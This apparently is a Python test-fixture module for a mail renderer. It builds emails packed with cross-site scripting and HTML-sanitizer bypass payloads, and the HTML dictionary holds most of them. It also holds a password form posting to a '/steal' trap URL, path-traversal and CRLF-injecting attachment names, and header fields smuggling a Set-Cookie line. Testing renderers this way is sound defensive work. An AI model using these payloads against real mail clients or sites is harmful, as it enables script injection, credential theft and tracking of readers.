"""Mail that means harm to who looks at it in a browser. `TRAP` stands for a web server that must hear nothing.

Whatever of it ran would either ask that server for something or set the title of a page to `RAN`.
"""

from __future__ import annotations

import base64
from collections.abc import Mapping
from typing import Final

TRAP: Final = "http://trap.invalid"
RAN: Final = "RAN"
_RUN: Final = f"top.document.title='{RAN}';document.title='{RAN}';new Image().src='{TRAP}/ran'"
_SVG: Final = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script></svg>'
_PAGE: Final = f"<script>{_RUN}</script><img src={TRAP}/page>"
_URL: Final = base64.b64encode(_PAGE.encode()).decode()

# The same in fewer letters.
_T: Final = TRAP
_R: Final = _RUN
_R1: Final = _RUN.partition(";")[0]

# Bodies of text/html parts.
HTML: Final[Mapping[str, str]] = {
    "script": f"<script>{_R}</script><SCRIPT SRC={_T}/s.js></SCRIPT><script src='{_T}/t.js' async></script>",
    "script in pieces": f"<scr<script>ipt>{_R}</scr</script>ipt><script/x>{_R}</script\t\n bar>",
    "script unclosed": f"<p>before<script>{_R}",
    "module": f'<script type="module">import "{_T}/m.js"</script><link rel=modulepreload href="{_T}/m2.js">',
    "handlers": (
        f'<img src=x onerror="{_R}"><body onload="{_R}" onpageshow="{_R}"><p onmouseover="{_R}">x</p>'
        f'<details open ontoggle="{_R}"><summary>d</summary></details><input autofocus onfocus="{_R}">'
        f'<video><source onerror="{_R}"></video><marquee onstart="{_R}">m</marquee>'
        f'<div style="animation:x 1s" onanimationstart="{_R}">a</div><style>@keyframes x{{}}</style>'
    ),
    "handlers without spaces": f'<img/src=x/onerror={_R1}><img src=x onerror\n=\n"{_R}">',
    "quotes that break out": f'<img alt="`><img src=x onerror={_R1}>"><p title="</p><script>{_R}</script>">x',
    "addresses that run": (
        f'<a id=a href="javascript:{_R}">j</a><a href=" jAvAsCrIpT&#58;{_R}">k</a><a href="java&#9;script:{_R}">l</a>'
        f'<a href="&#1;javascript:{_R}">m</a><a href="vbscript:x">v</a><a href="data:text/html;base64,{_URL}">d</a>'
        f'<form action="javascript:{_R}"><button>b</button></form><iframe src="javascript:{_R}"></iframe>'
        f'<object data="javascript:{_R}"></object><embed src="javascript:{_R}">'
    ),
    "data": (
        f'<iframe src="data:text/html;base64,{_URL}"></iframe><object data="data:text/html;base64,{_URL}"></object>'
        f'<embed src="data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}">'
        f'<img src="data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}">'
    ),
    "frames": (
        f'<iframe src="{_T}/frame"></iframe><iframe srcdoc="&lt;script&gt;{_R}&lt;/script&gt;"></iframe>'
        f'<frameset><frame src="{_T}/f2"></frameset><portal src="{_T}/p"></portal><fencedframe src="{_T}/ff">'
    ),
    "pictures": (
        f'<img src="{_T}/i.png"><img srcset="{_T}/s.png 1x, {_T}/t.png 2x"><picture><source srcset="{_T}/p.png">'
        f'<img></picture><input type=image src="{_T}/in.png"><table background="{_T}/bg.png"><tr><td background='
        f'"{_T}/td.png">x</td></tr></table><image src="{_T}/image.png"><body background="{_T}/body.png">'
        f'<video poster="{_T}/poster.png" src="{_T}/v.mp4" autoplay></video><audio src="{_T}/a.mp3" autoplay></audio>'
        f'<img lowsrc="{_T}/low" dynsrc="{_T}/dyn" longdesc="{_T}/long"><img src="//trap.invalid/scheme">'
    ),
    "styles": (
        f'<style>@import "{_T}/i.css"; body{{background:url({_T}/b.png)}} @font-face{{font-family:x;src:url({_T}/f)}}'
        f'*{{font-family:x}}</style><link rel=stylesheet href="{_T}/l.css"><p style="background:url({_T}/p.png)">x</p>'
        f"<p style=\"background:\\75\\72\\6c({_T}/e.png);list-style-image:url('{_T}/li.png');"
        f'content:url({_T}/c)">y</p>'
        f'<font style="behavior:url({_T}/h.htc);width:expression({_R1})">z</font>'
        "<div style='position:fixed;inset:0;z-index:99999;background:white'>overlay</div>"
    ),
    "fetched ahead": (
        f'<link rel=prefetch href="{_T}/pre"><link rel=preload as=image href="{_T}/preload.png">'
        f'<link rel=dns-prefetch href="{_T}"><link rel=preconnect href="{_T}"><link rel=prerender href="{_T}/r">'
        f'<link rel=icon href="{_T}/icon.png"><link rel=manifest href="{_T}/m.json">'
        f'<script type=speculationrules>{{"prefetch":[{{"urls":["{_T}/sr"]}}]}}</script>'
    ),
    "going elsewhere": (
        f'<meta http-equiv=refresh content="0;url={_T}/refresh"><base href="{_T}/base/"><a href=rel>relative</a>'
        f'<img src=relative.png><a href="{_T}/ping-target" ping="{_T}/ping">p</a><base target=_top>'
        f"<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src * 'unsafe-inline'\">"
    ),
    "forms": (
        f'<form action="{_T}/steal" method=post><input name=password type=password><button autofocus>Sign in</button>'
        f'</form><form id=f action="{_T}/g"></form><button form=f formaction="{_T}/h">b</button><isindex action="{_T}">'
        f'<input type=submit formaction="javascript:{_R}"><keygen><select autofocus onfocus="{_R}"></select>'
    ),
    "svg": (
        f'{_SVG}<svg><a xlink:href="javascript:{_R}"><text y=20>x</text></a><image href="{_T}/svg.png"/>'
        f'<use href="{_T}/u.svg#x"/><foreignObject><iframe src="{_T}/fo"></iframe></foreignObject>'
        f'<animate attributeName=href values="javascript:{_R}"/><set attributeName=onload to="{_R}"/>'
        f'<style>@import "{_T}/svg.css";</style><feImage href="{_T}/fe.png"/></svg>'
    ),
    "mathml": (
        f'<math><maction actiontype="statusline#{_T}" xlink:href="javascript:{_R}">x</maction>'
        f'<mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_R}&gt;"></table></mtext>'
        f'<annotation-xml encoding="text/html"><img src=x onerror="{_R}"></annotation-xml></math>'
    ),
    "parsed twice": (
        f'<svg></p><style><a id="</style><img src=1 onerror={_R}>">'
        f'<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={_R} src>">'
        f'<noscript><p title="</noscript><img src=x onerror={_R}>"></noscript>'
        f'<template><script>{_R}</script></template><xmp><p title="</xmp><img src=x onerror={_R}>">'
        f'<textarea></textarea><img src=x onerror="{_R}"></textarea><title></title><img src=x onerror="{_R}"></title>'
        f"<listing>&lt;img src=x onerror={_R}&gt;</listing><plaintext><script>{_R}</script>"
    ),
    "comments": (
        f"<!--><img src=x onerror={_R}>--><!--[if gte IE 4]><script>{_R}</script><![endif]--><![CDATA[<script>{_R}"
        f"</script>]]><?xml-stylesheet href='{_T}/x.css'?><!DOCTYPE x [<!ENTITY e SYSTEM '{_T}/e'>]>&e;"
    ),
    "odd octets": f"<scr\x00ipt>{_R}</scr\x00ipt><img src=x on\x00error={_R}><\x00script>{_R}</script>\u202egpj.exe",
    "components": (
        f"<x-a is=script><template shadowrootmode=open><script>{_R}</script>"
        f'<style>@import "{_T}/sh.css"</style></template>'
        f'</x-a><object classid="x" codebase="{_T}/cb" data="{_T}/o"><param name=movie value="{_T}/p.swf"></object>'
        f'<applet code=x codebase="{_T}/ap"></applet><embed src="{_T}/e.swf"><bgsound src="{_T}/b.wav">'
        f'<ilayer src="{_T}/il"></ilayer><xml src="{_T}/xml"></xml><track src="{_T}/t.vtt"><dialog open>d</dialog>'
    ),
    "names of the page's own": (
        '<p id=content name=form_token class="trouble" role=alert aria-live=assertive>x</p><a name=body>y</a>'
    ),
}
# Names of attached files.
NAMES: Final = (
    '"><script>alert(1)</script>.html',
    "../../etc/passwd",
    "C:\\windows\\system32\\x.exe",
    "a\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "\u202egpj.exe",
    'x";filename="y.html',
    "." * 5,
    "n" * 5000 + ".html",
    "\x00\x1b[31m.txt",
    "=?utf-8?b?PHNjcmlwdD4=?=",
)
# What a part says that it is, while it is a page.
TYPES: Final = (
    "text/html",
    "image/svg+xml",
    "application/xhtml+xml",
    "text/xml",
    "image/png",
    "text/javascript",
    "application/pdf",
    "text/plain; charset=utf-7",
    "multipart/x-mixed-replace",
    "text/html\x0b",
    "*/*",
)


def aimed(body: str, trap: str) -> str:
    """The same with another server in the place of `TRAP`, in what is encoded too; `trap` is as http://host:port."""
    for encoded in (_SVG, _PAGE):
        there = base64.b64encode(encoded.replace(TRAP, trap).encode()).decode()
        body = body.replace(base64.b64encode(encoded.encode()).decode(), there)
    return body.replace(TRAP, trap).replace(TRAP.partition(":")[2], trap.partition(":")[2])


def html_mail(body: str, charset: str = "utf-8") -> bytes:
    """A message that has HTML and nothing else."""
    head = f"From: Eve <eve@example.net>\r\nSubject: html\r\nContent-Type: text/html; charset={charset}\r\n"
    return f"{head}Content-Transfer-Encoding: base64\r\n\r\n".encode() + base64.encodebytes(body.encode(charset))


def attached_mail(content_type: str, name: str, trap: str = TRAP) -> bytes:
    """A message with a text and one attachment, a page that runs, of that type and that name."""
    quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\r\n", "\r\n ")
    return (
        "From: Eve <eve@example.net>\r\nSubject: attached\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nLook.\r\n"
        f'--b\r\nContent-Type: {content_type}\r\nContent-Disposition: inline; filename="{quoted}"\r\n\r\n'
        f"{aimed(_PAGE, trap)}\r\n--b--\r\n"
    ).encode()


def header_mail(trap: str = TRAP) -> bytes:
    """A message whose header fields are markup, in raw octets and in encoded words, and have line ends in them."""
    markup = aimed(f'"><img src={_T}/h onerror="{_R}"><script>{_R}</script>', trap)
    word = base64.b64encode(f"{markup}\r\nSet-Cookie: x=y\r\n\r\n{markup}".encode()).decode()
    return (
        f"From: {markup} <eve@example.net>\r\nTo: =?utf-8?b?{word}?= <ada@example.org>\r\n"
        f"Subject: =?utf-8?b?{word}?=\r\n"
        f"Cc: {markup}\r\nReply-To: =?utf-8?b?{word}?=\r\nMessage-ID: <{markup}@x>\r\nX-{markup}: 1\r\n\r\n{markup}\r\n"
    ).encode()
